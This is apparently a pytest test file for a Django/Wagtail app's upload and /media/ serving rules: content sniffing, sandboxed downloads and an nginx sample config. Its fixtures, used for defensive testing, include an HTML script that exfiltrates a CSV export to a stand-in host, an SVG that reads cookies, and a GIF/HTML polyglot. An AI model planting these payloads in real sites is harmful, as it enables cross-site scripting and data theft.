"""No active content from /media/: uploads are judged by content, and /media/ shows inline only
videos, audio and raster images; anything else is a sandboxed, unsniffed download."""

import io
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pytest_django.asserts import assertContains
from wagtail.models import Collection
from wagtailmedia.models import Media

from coaching.models import CoachingVideoPage

from .factories import TINY_MP4, TINY_WEBM

HTML = (
    b"<!DOCTYPE html><html><body><script>"
    b"fetch('/leaderboard/export.csv').then(r => r.text()).then(t => new Image().src = '//x/?' + t)"
    b"</script></body></html>\n"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><circle r="4"/></svg>'
MP3 = b"ID3\x03\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10 + b"\xff\xfb\x90\x64" + b"\x00" * 400


def raster(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=kind)
    return buffer.getvalue()


GIF = raster("GIF")
PNG = raster("PNG")
# A real GIF that is also a web page: a browser that sniffed it would run the script.
POLYGLOT = GIF + b"<html><script>alert(document.domain)</script></html>"


def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def media_form(**files) -> dict:
    data = {"title": "Upload", "collection": Collection.get_first_root_node().pk, "duration": 0, "tags": ""}
    data.update(files)
    return data


def assert_inline(response, content_type: str) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert not response.get("Content-Disposition", "inline").startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


def assert_download(response) -> None:
    """Never a page of this site: downloaded, sandboxed, not sniffed, not HTML or SVG."""
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"


# --- What /media/ sends back for whatever is on disk (uploads of every kind, old ones too).


def stored(relative: str, content: bytes) -> str:
    path = Path(settings.MEDIA_ROOT) / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return f"/media/{relative}"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("documents/page.html", HTML),
        ("documents/page.htm", HTML),
        ("images/drawing.svg", SVG),
        ("documents/page.xhtml", HTML),
        ("media/talk.mp4", HTML),  # a page renamed as a video
        ("images/photo.gif", HTML),  # a page renamed as an image
        ("images/polyglot.html", POLYGLOT),  # an image named as a page
        ("media/talk.webm", TINY_MP4),  # a video under another video's name
        ("documents/notes.pdf", b"%PDF-1.4\n%%EOF\n"),
        ("documents/notes", b"plain words\n"),
    ],
)
def test_anything_but_a_true_video_audio_or_image_is_a_sandboxed_download(rep_client, name, content):
    response = rep_client.get(stored(name, content))
    assert_download(response)
    assert response["Content-Disposition"] == f'attachment; filename="{Path(name).name}"'


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("media/talk.mp4", TINY_MP4, "video/mp4"),
        ("media/talk.webm", TINY_WEBM, "video/webm"),
        ("media/call.mp3", MP3, "audio/mpeg"),
        ("images/photo.png", PNG, "image/png"),
        ("images/photo.gif", GIF, "image/gif"),
        ("images/polyglot.gif", POLYGLOT, "image/gif"),  # shown only as an image, never sniffed
    ],
)
def test_true_videos_audio_and_images_are_shown_inline(rep_client, name, content, content_type):
    assert_inline(rep_client.get(stored(name, content)), content_type)


@pytest.mark.django_db
def test_behind_nginx_downloads_go_to_the_sandboxed_location(rep_client, settings):
    """nginx's download location (deploy/nginx/huddle.conf) adds the attachment headers."""
    settings.MEDIA_ACCEL = "nginx"
    page = rep_client.get(stored("documents/page.html", HTML))
    assert page["X-Accel-Redirect"] == "/protected-download/documents/page.html"
    assert page["Content-Type"] == "application/octet-stream"
    video = rep_client.get(stored("media/a talk.mp4", TINY_MP4))
    assert video["X-Accel-Redirect"] == "/protected-media/media/a%20talk.mp4"


@pytest.mark.django_db
def test_behind_apache_django_sets_the_download_headers(rep_client, settings):
    settings.MEDIA_ACCEL = "apache"
    response = rep_client.get(stored("documents/page.html", HTML))
    assert response["X-Sendfile"].endswith("documents/page.html")
    assert_download(response)


# --- Every kind of file marketing and reps can upload, through the real forms and admin.


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("page.html", HTML, "“page.html” is not an audio file Huddle can show"),
        ("drawing.svg", SVG, "“drawing.svg” is not an audio file Huddle can show"),
        ("call.mp3", HTML, "its content is a web page (HTML or SVG)"),
        ("call.mp3", PNG, "its content is a PNG file"),
        ("call.mp3", POLYGLOT, "its content is a web page (HTML or SVG)"),
    ],
)
def test_marketing_cannot_upload_a_page_as_audio(marketer_client, name, content, message):
    """``AUDIO_EXTENSIONS: []`` once let any file in as audio; now name and content must agree."""
    response = marketer_client.post("/admin/media/audio/add/", media_form(file=upload(name, content)))
    assertContains(response, message)
    assert not Media.objects.exists()


@pytest.mark.django_db
def test_marketing_uploads_real_audio_and_a_thumbnail_that_play_inline(marketer_client, rep_client):
    response = marketer_client.post(
        "/admin/media/audio/add/",
        media_form(file=upload("call.mp3", MP3, "audio/mpeg"), thumbnail=upload("cover.gif", GIF, "image/gif")),
    )
    assert response.status_code == 302
    media = Media.objects.get()
    assert media.type == "audio"
    assert_inline(rep_client.get(media.file.url), "audio/mpeg")
    assert_inline(rep_client.get(media.thumbnail.url), "image/gif")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("cover.gif", POLYGLOT, "“cover.gif” carries web page markup (HTML or SVG) inside the image"),
        ("cover.gif", HTML, "“cover.gif” is not an image file Huddle can show"),
        ("cover.png", GIF, "its content is a GIF file"),
    ],
)
def test_a_video_thumbnail_must_be_a_plain_image(marketer_client, name, content, message):
    response = marketer_client.post(
        "/admin/media/video/add/",
        media_form(file=upload("talk.mp4", TINY_MP4, "video/mp4"), thumbnail=upload(name, content)),
    )
    assertContains(response, message)
    assert not Media.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (HTML, "“talk.mp4” is not an MP4 or WebM video (its content is a web page (HTML or SVG))"),
        (TINY_MP4 + HTML, "“talk.mp4” carries web page markup (HTML or SVG) inside the video"),
    ],
)
def test_marketing_cannot_upload_a_page_as_video(marketer_client, content, message):
    response = marketer_client.post("/admin/media/video/add/", media_form(file=upload("talk.mp4", content)))
    assertContains(response, message)
    assert not Media.objects.exists()


@pytest.mark.django_db
def test_a_rep_cannot_share_a_page_renamed_as_a_video(rep_client):
    response = rep_client.post("/coaching/new/", {"title": "Sneaky", "file": upload("talk.mp4", HTML, "video/mp4")})
    assert response.status_code == 400
    assertContains(
        response, "“talk.mp4” is not an MP4 or WebM video (its content is a web page (HTML or SVG))", status_code=400
    )
    assert not Media.objects.exists()


@pytest.mark.django_db
def test_a_rep_shares_a_real_video_and_a_transcript_with_markup_in_it(rep_client):
    """The video plays inline; the transcript is text in the database, shown escaped."""
    transcript = "WEBVTT\n\n00:00:01.000 --> 00:00:03.000\n<script>alert(1)</script>Ask why now.\n"
    response = rep_client.post(
        "/coaching/new/",
        {
            "title": "Why now",
            "file": upload("why.mp4", TINY_MP4, "video/mp4"),
            "transcript_file": upload("why.vtt", transcript.encode(), "text/vtt"),
        },
    )
    assert response.status_code == 302
    video = CoachingVideoPage.objects.get()
    assert_inline(rep_client.get(video.video.url), "video/mp4")
    page = rep_client.get(video.url)
    assertContains(page, "Ask why now.")
    assert b"<script>alert(1)" not in page.content


@pytest.mark.django_db
def test_a_rep_cannot_submit_a_page_as_a_pitch(rep_client):
    from .factories import make_challenge, make_manager

    challenge = make_challenge(created_by=make_manager("mona"))
    response = rep_client.post(
        f"/coaching/challenges/{challenge.pk}/submit/", {"file": upload("pitch.webm", SVG, "video/webm")}
    )
    assertContains(response, "“pitch.webm” is not an MP4 or WebM video", status_code=400)
    assert not Media.objects.exists()


@pytest.fixture
def admin_client_(db):
    """A superuser: the only role that may add Wagtail images and documents."""
    from django.test import Client

    from .factories import make_user

    client = Client()
    client.force_login(make_user("root", is_superuser=True, is_staff=True))
    return client


@pytest.mark.django_db
def test_images_are_shown_only_as_images(admin_client_, rep_client):
    """Wagtail refuses SVG; a GIF carrying a page is kept but only ever sent as image/gif."""
    from wagtail.images.models import Image as WagtailImage

    refused = admin_client_.post(
        "/admin/images/add/",
        {
            "title": "Drawing",
            "file": upload("drawing.svg", SVG, "image/svg+xml"),
            "collection": Collection.get_first_root_node().pk,
            "tags": "",
        },
    )
    assert refused.status_code == 200 and not WagtailImage.objects.exists()
    for name, content in [("photo.png", PNG), ("polyglot.gif", POLYGLOT)]:
        admin_client_.post(
            "/admin/images/add/",
            {
                "title": name,
                "file": upload(name, content),
                "collection": Collection.get_first_root_node().pk,
                "tags": "",
            },
        )
    images = {image.title: image for image in WagtailImage.objects.all()}
    assert set(images) == {"photo.png", "polyglot.gif"}
    assert_inline(rep_client.get(images["photo.png"].file.url), "image/png")
    assert_inline(rep_client.get(images["polyglot.gif"].file.url), "image/gif")


@pytest.mark.django_db
def test_a_document_that_is_a_page_is_only_downloaded(admin_client_, rep_client):
    from wagtail.documents.models import Document

    response = admin_client_.post(
        "/admin/documents/add/",
        {
            "title": "Battlecard",
            "file": upload("battlecard.html", HTML, "text/html"),
            "collection": Collection.get_first_root_node().pk,
            "tags": "",
        },
    )
    assert response.status_code == 302
    document = Document.objects.get()
    assert document.file.url.startswith("/media/documents/")
    assert_download(rep_client.get(document.file.url))


# --- The nginx sample itself, in front of Huddle (MEDIA_ACCEL=nginx), where nginx is installed.


def _free_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _nginx_site(tmp_path: Path, *, upstream: str, port: int, media_root: str) -> Path:
    """deploy/nginx/huddle.conf on plain HTTP and a free port, pointing at the test's folders."""
    import os
    import re

    site = (Path(__file__).resolve().parent.parent / "deploy" / "nginx" / "huddle.conf").read_text()
    site = re.sub(r"^\s*ssl_\w+ .*;$", "", site, flags=re.MULTILINE)
    site = re.sub(r"^\s*listen \[::\]:\d+.*;$", "", site, flags=re.MULTILINE)
    site = site.replace("listen 80;", f"listen 127.0.0.1:{_free_port()};")
    site = site.replace("listen 443 ssl http2;", f"listen 127.0.0.1:{port};")
    site = site.replace("server 127.0.0.1:8000", f"server {upstream}")
    site = site.replace("/var/lib/huddle/media/", media_root.rstrip("/") + "/")
    site = site.replace("/var/log/nginx/", f"{tmp_path}/")
    (tmp_path / "site.conf").write_text(site)
    temp = "".join(
        f"{kind}_temp_path {tmp_path}/{kind};" for kind in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    )
    user = "user root;\n" if os.geteuid() == 0 else ""  # the test's media folder is private to root
    conf = tmp_path / "nginx.conf"
    conf.write_text(
        f"{user}pid {tmp_path}/nginx.pid; error_log {tmp_path}/error.log; daemon off;\nevents {{}}\n"
        f"http {{ include /etc/nginx/mime.types; {temp} include {tmp_path}/site.conf; }}\n"
    )
    return conf


@pytest.fixture
def nginx_in_front(live_server, tmp_path, settings, monkeypatch, rep):
    """nginx with the sample site in front of the live server; yields (base URL, session cookie)."""
    import shutil
    import subprocess
    import time

    import httpx
    from django.test import Client, testcases

    if not shutil.which("nginx"):
        pytest.skip("nginx is not installed")
    # Django's live server answers /media/ itself unless told not to: Huddle's view must.
    monkeypatch.setattr(testcases._MediaFilesHandler, "_should_handle", lambda self, path: False)
    settings.MEDIA_ACCEL = "nginx"
    port = _free_port()
    upstream = live_server.url.removeprefix("http://")
    conf = _nginx_site(tmp_path, upstream=upstream, port=port, media_root=str(settings.MEDIA_ROOT))
    process = subprocess.Popen(["nginx", "-c", str(conf)], stderr=subprocess.PIPE)
    try:
        for _ in range(50):
            try:
                httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1)
                break
            except httpx.TransportError:
                time.sleep(0.1)
        client = Client()
        client.force_login(rep)
        session = client.cookies[settings.SESSION_COOKIE_NAME].value
        yield f"http://127.0.0.1:{port}", {settings.SESSION_COOKIE_NAME: session}
    finally:
        process.terminate()
        process.wait(timeout=10)


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_nginx_sample_streams_ranges_and_sandboxes_downloads(nginx_in_front):
    import httpx

    base, cookies = nginx_in_front
    video = TINY_WEBM + bytes(range(256)) * 8
    stored("media/talk.webm", video)
    stored("documents/page.html", HTML)
    stored("media/renamed.mp4", HTML)

    with httpx.Client(base_url=base, cookies=cookies, timeout=10) as http:
        part = http.get("/media/media/talk.webm", headers={"Range": "bytes=100-199"})
        assert part.status_code == 206
        assert part.headers["Content-Range"] == f"bytes 100-199/{len(video)}"
        assert part.content == video[100:200]
        assert part.headers["Content-Type"] == "video/webm"
        assert part.headers.get_list("X-Content-Type-Options") == ["nosniff"]
        assert "attachment" not in part.headers.get("Content-Disposition", "")
        names = [name for name, _ in part.headers.multi_items()]
        assert len(names) == len(set(names)), names  # no header sent twice (Django and nginx)

        for url in ("/media/documents/page.html", "/media/media/renamed.mp4"):
            page = http.get(url)
            assert page.status_code == 200, url
            assert page.headers["Content-Type"] == "application/octet-stream"
            assert page.headers.get_list("Content-Disposition") == ["attachment"]
            assert page.headers.get_list("Content-Security-Policy") == ["sandbox"]
            assert page.headers.get_list("X-Content-Type-Options") == ["nosniff"]
            names = [name for name, _ in page.headers.multi_items()]
            assert len(names) == len(set(names)), names

        assert http.get("/protected-download/documents/page.html").status_code == 404  # internal only
    anonymous = httpx.get(f"{base}/media/media/talk.webm", headers={"Range": "bytes=0-9"})
    assert anonymous.status_code == 302 and "/accounts/login/" in anonymous.headers["Location"]
